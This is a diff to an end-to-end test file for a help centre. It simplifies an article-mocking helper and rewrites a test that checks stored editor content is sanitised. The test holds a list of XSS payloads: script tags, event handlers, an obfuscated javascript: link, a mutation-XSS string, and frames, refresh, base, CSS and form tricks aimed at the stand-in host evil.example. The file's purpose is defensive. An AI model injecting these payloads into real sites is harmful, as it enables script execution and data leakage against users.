@@ -1,33 +1,11 @@
 import { expect, expectAnnounced, type Page, tabTo, test } from '@my-air/e2e';
 
-import { writeArticle } from '../src/document.ts';
-
 const title = (page: Page, name: string | RegExp) => page.getByRole('heading', { level: 1, name });
 
-/** Replaces an article by what an editor has stored under its number: in its document, or in the answer of the API alone. */
-async function storeArticle(
-  page: Page,
-  contentHtml: string,
-  from: 'document' | 'answer' = 'document',
-): Promise<void> {
+/** Replaces an article by what an editor has stored under its number. */
+async function storeArticle(page: Page, contentHtml: string): Promise<void> {
   const article = { id: 2, name: 'Stored', description_html: '<b>D</b>', content_html: contentHtml };
   await page.route('**/api/help/articles/2', (route) => route.fulfill({ json: { article } }));
-  await page.route('**/help/2', async (route) => {
-    if (!route.request().isNavigationRequest()) return route.fallback();
-    // The page of an address without an article is that of the portal, with the same policy.
-    const plain = await route.fetch({ url: new URL('/help/9999', route.request().url()).href });
-    const html = await plain.text();
-    const { origin } = new URL(route.request().url());
-    const about = {
-      locale: 'en',
-      isAddressed: false,
-      languages: ['en'],
-      origin,
-      siteName: 'My AIR',
-    } as const;
-    const body = from === 'answer' ? html : await writeArticle(html, { article, ...about });
-    return route.fulfill({ response: plain, status: 200, body });
-  });
 }
 
 test('[HC-06] [HC-09] [HC-05] [G-50] the way through the help centre by keys alone', async ({
@@ -120,58 +98,52 @@ test('[HC-13] what was looked for is offered again, and forgotten with the sign-
   expect(await kept()).toEqual([]);
 });
 
-for (const from of ['document', 'answer'] as const) {
-  test(`[HC-10] what a hostile editor has stored does nothing, and can be read: from the ${from}`, async ({
-    page,
-    sandbox,
-  }) => {
-    const dialogs: string[] = [];
-    page.on('dialog', (dialog) => {
-      dialogs.push(dialog.message());
-      void dialog.dismiss();
-    });
-    const foreign: string[] = [];
-    page.on('request', (request) => {
-      if (request.url().includes('evil.example')) foreign.push(request.url());
-    });
-    await storeArticle(
-      page,
-      [
-        '<h2>First</h2>',
-        '<script>alert(1)</script><p onclick="alert(1)">Handler</p>',
-        '<img src=x onerror=alert(1)><p>Picture</p>',
-        '<a href="jav&#9;ascript:alert(1)">Address</a>',
-        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>Drawing</p>',
-        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mathematics</p>',
-        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/f"></iframe><p>Frame</p>',
-        '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Refresh</p>',
-        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>Base</p>',
-        '<style>body{display:none}p{background:url(https://evil.example/p)}</style><p>Style</p>',
-        '<form action="https://evil.example"><p><button formaction="javascript:alert(1)">Form</button></p></form>',
-        '<img alt="" srcset="https://evil.example/i 2x"><p>Sources</p>',
-        '<a href="https://evil.example/" target="_blank" rel="opener">Opener</a>',
-        '<p id="root" name="cookie">Names</p>',
-        '<p>Unclosed</p><img src="https://evil.example/?',
-      ].join(''),
-      from,
-    );
-    await page.goto('/help/2');
-    const article = page.getByRole('article');
-    await expect(article.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
-    for (const words of 'Handler Picture Address Drawing Mathematics Frame Refresh Base Style Form Sources Opener Names Unclosed'.split(
-      ' ',
-    )) {
-      await expect(article.getByText(words, { exact: true })).toBeVisible();
-    }
-    await article.getByText('Handler', { exact: true }).click();
-    await article.getByText('Address', { exact: true }).click();
-    await article.getByText('Form', { exact: true }).click();
-    await expect(article.getByRole('link', { name: 'Opener' })).toHaveAttribute('rel', 'noopener noreferrer');
-    await expect(page).toHaveURL('/help/2');
-    expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
-    expect(await sandbox.policyReports()).toEqual([]);
+test('[HC-10] what a hostile editor has stored does nothing, and can be read', async ({ page, sandbox }) => {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
   });
-}
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) foreign.push(request.url());
+  });
+  await storeArticle(
+    page,
+    [
+      '<h2>First</h2>',
+      '<script>alert(1)</script><p onclick="alert(1)">Handler</p>',
+      '<img src=x onerror=alert(1)><p>Picture</p>',
+      '<a href="jav&#9;ascript:alert(1)">Address</a>',
+      '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>Drawing</p>',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mathematics</p>',
+      '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/f"></iframe><p>Frame</p>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Refresh</p>',
+      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>Base</p>',
+      '<style>body{display:none}p{background:url(https://evil.example/p)}</style><p>Style</p>',
+      '<form action="https://evil.example"><p><button formaction="javascript:alert(1)">Form</button></p></form>',
+      '<img alt="" srcset="https://evil.example/i 2x"><p>Sources</p>',
+      '<a href="https://evil.example/" target="_blank" rel="opener">Opener</a>',
+      '<p id="root" name="cookie">Names</p>',
+      '<p>Unclosed</p><img src="https://evil.example/?',
+    ].join(''),
+  );
+  await page.goto('/help/2');
+  const article = page.getByRole('article');
+  await expect(article.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
+  for (const words of 'Handler Picture Address Drawing Mathematics Frame Refresh Base Style Form Sources Opener Names Unclosed'.split(
+    ' ',
+  )) {
+    await expect(article.getByText(words, { exact: true })).toBeVisible();
+  }
+  await article.getByText('Handler', { exact: true }).click();
+  await article.getByText('Address', { exact: true }).click();
+  await article.getByText('Form', { exact: true }).click();
+  await expect(article.getByRole('link', { name: 'Opener' })).toHaveAttribute('rel', 'noopener noreferrer');
+  await expect(page).toHaveURL('/help/2');
+  expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
+  expect(await sandbox.policyReports()).toEqual([]);
+});
 
 test('[HC-10] a video is fetched when it is played, and no earlier', async ({ page, sandbox }) => {
   const asked: string[] = [];
